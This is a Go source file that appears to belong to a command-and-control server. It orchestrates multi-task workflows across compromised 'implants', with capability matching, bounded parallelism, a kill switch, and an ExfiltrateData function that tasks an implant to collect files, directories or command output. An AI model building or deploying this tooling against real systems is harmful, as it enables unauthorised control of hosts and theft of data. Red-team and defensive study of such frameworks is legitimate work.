// Package workflow sequences multi-task operations across implants,
// bounds their parallelism, and exposes the kill switch that aborts a
// workflow and cascades cancellation into its tasks.
package workflow

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"sync"
	"time"

	"github.com/google/uuid"
	"github.com/ospray/ospray-server/internal/errs"
	"github.com/ospray/ospray-server/internal/implants"
	"github.com/ospray/ospray-server/internal/tasks"
)

// Store is the durable workflow record interface. The kill flag is set
// with a conditional update so two activations cannot double-abort.
type Store interface {
	InsertWorkflow(ctx context.Context, w *Workflow) error
	GetWorkflow(ctx context.Context, id string) (*Workflow, error)
	ListWorkflows(ctx context.Context) ([]Workflow, error)
	TransitionStatus(ctx context.Context, id string, from []Status, to Status) (bool, error)
	// ActivateKill moves the workflow to aborted and records the reason,
	// only if it is still created or running.
	ActivateKill(ctx context.Context, id string, reason KillReason, details string, at time.Time) (bool, error)
}

// TaskRunner is the distributor surface the orchestrator drives.
type TaskRunner interface {
	CreateTask(ctx context.Context, req tasks.NewTask) (*tasks.Task, error)
	AssignToImplant(ctx context.Context, taskID, implantID string) error
	CancelTaskCascade(ctx context.Context, taskID string) (*tasks.CascadeResult, error)
	GetTask(ctx context.Context, id string) (*tasks.Task, error)
	ListByWorkflow(ctx context.Context, workflowID string) ([]tasks.Task, error)
}

// Directory is the implant registry view the matcher scores against.
type Directory interface {
	ListImplants(ctx context.Context) ([]implants.Implant, error)
}

const (
	defaultMaxParallel  = 3
	defaultPollInterval = 2 * time.Second
	defaultTaskWait     = 10 * time.Minute
	defaultExfilSizeMB  = 100
	exfilCapability     = "data_exfiltration"
)

type Orchestrator struct {
	store        Store
	tasks        TaskRunner
	directory    Directory
	pollInterval time.Duration
}

func NewOrchestrator(store Store, runner TaskRunner, directory Directory) *Orchestrator {
	return &Orchestrator{
		store:        store,
		tasks:        runner,
		directory:    directory,
		pollInterval: defaultPollInterval,
	}
}

// CreateWorkflow registers a new workflow in created status.
func (o *Orchestrator) CreateWorkflow(ctx context.Context, name, createdBy string) (*Workflow, error) {
	if name == "" {
		return nil, fmt.Errorf("%w: workflow name is required", errs.ErrValidation)
	}
	w := &Workflow{
		ID:        uuid.New().String(),
		Name:      name,
		Status:    StatusCreated,
		CreatedBy: createdBy,
		CreatedAt: time.Now(),
		UpdatedAt: time.Now(),
	}
	if err := o.store.InsertWorkflow(ctx, w); err != nil {
		return nil, fmt.Errorf("failed to create workflow: %w", err)
	}
	return w, nil
}

func (o *Orchestrator) GetWorkflow(ctx context.Context, id string) (*Workflow, error) {
	return o.store.GetWorkflow(ctx, id)
}

func (o *Orchestrator) ListWorkflows(ctx context.Context) ([]Workflow, error) {
	return o.store.ListWorkflows(ctx)
}

// ExecuteDistributedWorkflow routes each task definition to the best
// matching implant and runs them with at most MaxParallelTasks in
// flight. The kill flag is re-checked before every launch; once
// observed, no further task starts and the launched ones are asked to
// cancel via cascade. A single task failure does not abort the
// workflow; only a missing implant for a mandatory step marks it failed.
func (o *Orchestrator) ExecuteDistributedWorkflow(ctx context.Context, workflowID string, defs []TaskDef, opts ExecOptions) (*ExecutionReport, error) {
	if len(defs) == 0 {
		return nil, fmt.Errorf("%w: workflow has no tasks", errs.ErrValidation)
	}
	maxParallel := opts.MaxParallelTasks
	if maxParallel <= 0 {
		maxParallel = defaultMaxParallel
	}

	moved, err := o.store.TransitionStatus(ctx, workflowID, []Status{StatusCreated}, StatusRunning)
	if err != nil {
		return nil, fmt.Errorf("failed to start workflow: %w", err)
	}
	if !moved {
		w, err := o.store.GetWorkflow(ctx, workflowID)
		if err != nil {
			return nil, err
		}
		return nil, fmt.Errorf("%w: workflow %s is %s", errs.ErrStateConflict, workflowID, w.Status)
	}

	report := &ExecutionReport{WorkflowID: workflowID, Status: StatusRunning}
	var (
		mu       sync.Mutex
		wg       sync.WaitGroup
		launched []string
	)
	sem := make(chan struct{}, maxParallel)

	fatal := false
	for _, def := range defs {
		// Acquire the parallelism slot first so the kill flag is
		// re-read after any wait, immediately before launch.
		sem <- struct{}{}

		killed, err := o.killActivated(ctx, workflowID)
		if err != nil {
			slog.Error("Kill switch check failed", "workflow_id", workflowID, "error", err)
		}
		if killed {
			<-sem
			slog.Warn("Kill switch observed, halting workflow launches", "workflow_id", workflowID)
			break
		}

		match, err := o.FindBestImplantForTask(ctx, def.RequiredCapabilities, def.PreferredType, opts.MatchOptions)
		if err != nil {
			<-sem
			if errors.Is(err, ErrNoMatch) && !def.Mandatory {
				slog.Warn("No implant for optional workflow step, skipping",
					"workflow_id", workflowID, "step", def.Name)
				continue
			}
			fatal = true
			slog.Error("No implant for mandatory workflow step",
				"workflow_id", workflowID, "step", def.Name, "error", err)
			break
		}

		t, err := o.launchStep(ctx, workflowID, def, match.Implant.ID, opts.AutonomyLevel)
		if err != nil {
			<-sem
			if def.Mandatory {
				fatal = true
				slog.Error("Failed to launch mandatory workflow step",
					"workflow_id", workflowID, "step", def.Name, "error", err)
				break
			}
			slog.Warn("Failed to launch optional workflow step",
				"workflow_id", workflowID, "step", def.Name, "error", err)
			continue
		}
		launched = append(launched, t.ID)
		report.Launched++

		wg.Add(1)
		go func(def TaskDef, taskID, implantID string) {
			defer wg.Done()
			defer func() { <-sem }()
			outcome := o.WaitForTask(ctx, taskID, def.Timeout)
			mu.Lock()
			defer mu.Unlock()
			report.Tasks = append(report.Tasks, TaskOutcome{
				TaskID:    taskID,
				Name:      def.Name,
				ImplantID: implantID,
				Outcome:   outcome,
			})
			switch outcome {
			case OutcomeSuccess:
				report.Succeeded++
			case OutcomeTimeout:
				report.TimedOut++
			default:
				report.Failed++
			}
		}(def, t.ID, match.Implant.ID)
	}

	wg.Wait()

	killed, _ := o.killActivated(ctx, workflowID)
	switch {
	case killed:
		o.cancelLaunched(ctx, launched)
		report.Status = StatusAborted
	case fatal:
		if _, err := o.store.TransitionStatus(ctx, workflowID, []Status{StatusRunning}, StatusFailed); err != nil {
			slog.Error("Failed to mark workflow failed", "workflow_id", workflowID, "error", err)
		}
		o.cancelLaunched(ctx, launched)
		report.Status = StatusFailed
		return report, fmt.Errorf("%w: no implant available for mandatory workflow step", errs.ErrDependencyFailed)
	default:
		if _, err := o.store.TransitionStatus(ctx, workflowID, []Status{StatusRunning}, StatusCompleted); err != nil {
			slog.Error("Failed to mark workflow completed", "workflow_id", workflowID, "error", err)
		}
		report.Status = StatusCompleted
	}

	slog.Info("Workflow execution finished",
		"workflow_id", workflowID,
		"status", report.Status,
		"launched", report.Launched,
		"succeeded", report.Succeeded,
		"failed", report.Failed,
		"timed_out", report.TimedOut)
	return report, nil
}

func (o *Orchestrator) launchStep(ctx context.Context, workflowID string, def TaskDef, implantID, autonomy string) (*tasks.Task, error) {
	params := def.Params
	if params == nil {
		params = map[string]any{}
	}
	if autonomy != "" {
		params["autonomy_level"] = autonomy
	}
	primaryCap := ""
	if len(def.RequiredCapabilities) > 0 {
		primaryCap = def.RequiredCapabilities[0]
	}
	t, err := o.tasks.CreateTask(ctx, tasks.NewTask{
		Type:               def.Type,
		Name:               def.Name,
		Params:             params,
		Priority:           def.Priority,
		Timeout:            def.Timeout,
		DependsOn:          def.DependsOn,
		RequiredCapability: primaryCap,
		WorkflowID:         workflowID,
	})
	if err != nil {
		return nil, err
	}
	if err := o.tasks.AssignToImplant(ctx, t.ID, implantID); err != nil {
		return nil, err
	}
	return t, nil
}

func (o *Orchestrator) killActivated(ctx context.Context, workflowID string) (bool, error) {
	w, err := o.store.GetWorkflow(ctx, workflowID)
	if err != nil {
		return false, err
	}
	return w.Status == StatusAborted, nil
}

func (o *Orchestrator) cancelLaunched(ctx context.Context, taskIDs []string) {
	for _, id := range taskIDs {
		if _, err := o.tasks.CancelTaskCascade(ctx, id); err != nil && !errors.Is(err, errs.ErrNotFound) {
			slog.Error("Failed to cascade-cancel workflow task", "task_id", id, "error", err)
		}
	}
}

// ExecuteTaskOnImplant runs one task on an operator-chosen implant,
// bypassing the matcher, and waits for a definite outcome with a
// bounded poll.
func (o *Orchestrator) ExecuteTaskOnImplant(ctx context.Context, workflowID, implantID string, def TaskDef, autonomy string) (*TaskOutcome, error) {
	if killed, err := o.killActivated(ctx, workflowID); err != nil {
		return nil, err
	} else if killed {
		return nil, fmt.Errorf("%w: workflow %s is aborted", errs.ErrStateConflict, workflowID)
	}
	t, err := o.launchStep(ctx, workflowID, def, implantID, autonomy)
	if err != nil {
		return nil, err
	}
	outcome := o.WaitForTask(ctx, t.ID, def.Timeout)
	return &TaskOutcome{TaskID: t.ID, Name: def.Name, ImplantID: implantID, Outcome: outcome}, nil
}

// WaitForTask polls the task until it reaches a terminal status or the
// deadline passes, and always returns a definite outcome. A cancelled
// or timed-out task counts as failure and timeout respectively.
func (o *Orchestrator) WaitForTask(ctx context.Context, taskID string, timeout time.Duration) Outcome {
	if timeout <= 0 {
		timeout = defaultTaskWait
	}
	deadline := time.NewTimer(timeout)
	defer deadline.Stop()
	ticker := time.NewTicker(o.pollInterval)
	defer ticker.Stop()

	for {
		t, err := o.tasks.GetTask(ctx, taskID)
		if err == nil {
			switch t.Status {
			case tasks.StatusCompleted:
				return OutcomeSuccess
			case tasks.StatusFailed, tasks.StatusCancelled:
				return OutcomeFailure
			case tasks.StatusTimeout:
				return OutcomeTimeout
			}
		} else {
			slog.Error("Task poll failed", "task_id", taskID, "error", err)
		}

		select {
		case <-ctx.Done():
			return OutcomeTimeout
		case <-deadline.C:
			return OutcomeTimeout
		case <-ticker.C:
		}
	}
}

// ExfiltrateData launches the specialized collection task template on
// one implant. The size cap is enforced when results arrive: oversized
// payload reports are rejected, not truncated.
func (o *Orchestrator) ExfiltrateData(ctx context.Context, implantID, workflowID string, opts ExfilOptions) (*tasks.Task, error) {
	switch opts.SourceType {
	case "file", "directory":
		if opts.SourcePath == "" {
			return nil, fmt.Errorf("%w: source path is required for %s exfiltration", errs.ErrValidation, opts.SourceType)
		}
	case "command":
		if opts.Command == "" {
			return nil, fmt.Errorf("%w: command is required for command exfiltration", errs.ErrValidation)
		}
	default:
		return nil, fmt.Errorf("%w: unknown exfiltration source type %q", errs.ErrValidation, opts.SourceType)
	}
	maxSize := opts.MaxSizeMB
	if maxSize <= 0 {
		maxSize = defaultExfilSizeMB
	}

	t, err := o.tasks.CreateTask(ctx, tasks.NewTask{
		Type: "data_exfiltration",
		Name: fmt.Sprintf("exfiltrate %s", opts.SourceType),
		Params: map[string]any{
			"source_type":         opts.SourceType,
			"source_path":         opts.SourcePath,
			"command":             opts.Command,
			"max_size_mb":         maxSize,
			"compression_enabled": opts.CompressionEnabled,
			"encryption_enabled":  opts.EncryptionEnabled,
		},
		Priority:           5,
		RequiredCapability: exfilCapability,
		WorkflowID:         workflowID,
	})
	if err != nil {
		return nil, err
	}
	if err := o.tasks.AssignToImplant(ctx, t.ID, implantID); err != nil {
		return nil, err
	}
	slog.Info("Exfiltration task launched",
		"task_id", t.ID,
		"implant_id", implantID,
		"source_type", opts.SourceType,
		"max_size_mb", maxSize)
	return t, nil
}

// ActivateKillSwitch aborts the workflow and cascade-cancels its live
// tasks. The call is idempotent: a second activation, or one against a
// workflow already finished, is a no-op. The switch is reported active
// to the caller even while cancellations are still propagating.
func (o *Orchestrator) ActivateKillSwitch(ctx context.Context, workflowID string, reason KillReason, details string) error {
	if !reason.Valid() {
		return fmt.Errorf("%w: unknown kill reason %q", errs.ErrValidation, reason)
	}
	if _, err := o.store.GetWorkflow(ctx, workflowID); err != nil {
		return err
	}

	activated, err := o.store.ActivateKill(ctx, workflowID, reason, details, time.Now())
	if err != nil {
		return fmt.Errorf("failed to activate kill switch: %w", err)
	}
	if !activated {
		// Already aborted or already finished: nothing left to kill.
		return nil
	}

	slog.Warn("Kill switch activated",
		"workflow_id", workflowID,
		"reason", reason,
		"details", details)

	wfTasks, err := o.tasks.ListByWorkflow(ctx, workflowID)
	if err != nil {
		slog.Error("Kill switch could not list workflow tasks", "workflow_id", workflowID, "error", err)
		return nil
	}
	for _, t := range wfTasks {
		if t.Status != tasks.StatusQueued && t.Status != tasks.StatusRunning {
			continue
		}
		if _, err := o.tasks.CancelTaskCascade(ctx, t.ID); err != nil && !errors.Is(err, errs.ErrNotFound) {
			slog.Error("Kill switch cascade-cancel failed", "task_id", t.ID, "error", err)
		}
	}
	return nil
}
